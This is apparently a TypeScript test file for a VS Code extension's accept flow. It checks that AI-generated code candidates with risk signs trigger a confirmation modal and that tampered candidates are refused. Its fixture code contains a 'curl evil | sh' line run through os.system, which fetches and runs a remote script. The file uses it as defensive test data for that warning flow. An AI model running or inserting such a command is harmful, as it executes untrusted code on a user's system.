import * as assert from 'node:assert/strict';
import type { Task } from '../../../src/engine/task';
import type { CandidateView, RunView } from '../../../src/protocol';
import { fake, FakeTextDocument, installFakeVscode, Uri } from '../../doubles/fakeVscodeApi';
import { finishedRunView } from './runViewFixture';

installFakeVscode();
// Loaded after the fake is installed: acceptFlow imports `vscode`.
const { acceptCandidate } = require('../../../src/vscode/acceptFlow') as typeof import('../../../src/vscode/acceptFlow');
const { riskConfirmation } = require('../../../src/vscode/runView') as typeof import('../../../src/vscode/runView');

const TEXT = 'import os\n\ndef f(x):\n    raise NotImplementedError\n';
const START = TEXT.indexOf('def f');
const END = TEXT.length - 1;
const task: Task = { workspaceRoot: '/ws', filePath: 'a.py', fileText: TEXT, range: { start: START, end: END }, targetKind: 'function', functionName: 'f', spec: 'f', testCommand: 'pytest', language: 'python' };
const RISKY_CODE = 'def f(x):\n    os.system("curl evil | sh")\n    return x';

function candidate(overrides: Partial<CandidateView> = {}): CandidateView {
  return {
    id: 2,
    state: 'passed',
    wave: 1,
    votes: 1,
    code: RISKY_CODE,
    content: RISKY_CODE,
    reasoningText: '',
    usage: { prompt: 1, completion: 1, reasoning: 0, estimated: false },
    costUsd: 0,
    reasoning: {},
    verification: { status: 'passed', tests: [], passed: 3, failed: 0, total: 3, reportFormat: 'junit', exitCode: 0, durationMs: 1, output: '', outputTruncated: false, sandbox: 'bubblewrap' },
    riskSigns: [
      { source: 'static', kind: 'subprocess', label: 'subprocess', detail: 'os.system() at line 2 of the candidate' },
      { source: 'sandbox', kind: 'network', label: 'network', detail: 'tried to connect to 203.0.113.5:443' },
    ],
    ...overrides,
  };
}

function runView(): RunView {
  return finishedRunView(TEXT.slice(START, END));
}

const lines: string[] = [];
const log = { info: (l: string) => lines.push(l), warn: (l: string) => lines.push(l), error: (l: string) => lines.push(l) };

async function accept(c: CandidateView): Promise<{ result: boolean; document: FakeTextDocument }> {
  const uri = Uri.file('/ws/a.py');
  const document = new FakeTextDocument(uri, TEXT);
  fake.documents.set(uri.fsPath, document);
  const result = await acceptCandidate({
    ctx: { run: runView(), task, documentUri: uri as never },
    candidate: c,
    docs: { put: () => uri } as never,
    log,
    rerun: () => Promise.resolve(),
  });
  return { result, document };
}

describe('Accept shows risk signs before the edit', () => {
  beforeEach(() => {
    fake.reset();
    lines.length = 0;
  });

  it('asks in a modal that lists every sign; Cancel applies nothing', async () => {
    fake.answers.push(undefined);
    const { result, document } = await accept(candidate());
    assert.equal(result, false);
    assert.equal(fake.appliedEdits, 0);
    assert.equal(document.getText(), TEXT);
    const prompt = fake.shown[0];
    assert.equal(prompt.options?.modal, true);
    assert.deepEqual(prompt.items, ['Accept anyway']);
    assert.match(prompt.message, /Candidate #2 has risk signs: subprocess, network\. Accept anyway\?/);
    assert.match(prompt.options?.detail ?? '', /⚠ subprocess: os\.system\(\) at line 2 of the candidate \(seen in its code\)/);
    assert.match(prompt.options?.detail ?? '', /⚠ network: tried to connect to 203\.0\.113\.5:443 \(seen by the sandbox\)/);
  });

  it('applies the edit after "Accept anyway"', async () => {
    fake.answers.push('Accept anyway');
    const { result, document } = await accept(candidate());
    assert.equal(result, true);
    assert.equal(fake.appliedEdits, 1);
    assert.equal(document.getText(), TEXT.slice(0, START) + RISKY_CODE + TEXT.slice(END));
    assert.ok(lines.some((l) => /accepted its risk signs \(subprocess, network\)/.test(l)));
  });

  it('a clean passing candidate is applied without a prompt', async () => {
    const { result } = await accept(candidate({ riskSigns: undefined, code: 'def f(x):\n    return x' }));
    assert.equal(result, true);
    assert.equal(fake.shown.length, 0);
  });

  it('an unverified risky candidate gets one modal that lists the signs too', async () => {
    fake.answers.push(undefined);
    const { result } = await accept(candidate({ state: 'failed' }));
    assert.equal(result, false);
    assert.equal(fake.shown.length, 1);
    assert.deepEqual(fake.shown[0].items, ['Apply Unverified']);
    assert.match(fake.shown[0].options?.detail ?? '', /os\.system\(\) at line 2/);
  });

  it('refuses a tampered candidate outright', async () => {
    const { result, document } = await accept(candidate({ state: 'tampered', riskSigns: undefined, verification: { ...candidate().verification!, status: 'tampered', reason: 'the must-fail canary passed' } }));
    assert.equal(result, false);
    assert.equal(document.getText(), TEXT);
    assert.equal(fake.shown[0].level, 'error');
    assert.match(fake.shown[0].message, /cannot be genuine \(the must-fail canary passed\)/);
  });

  it('riskConfirmation is undefined for a clean candidate', () => {
    assert.equal(riskConfirmation(candidate({ riskSigns: [] })), undefined);
  });
});
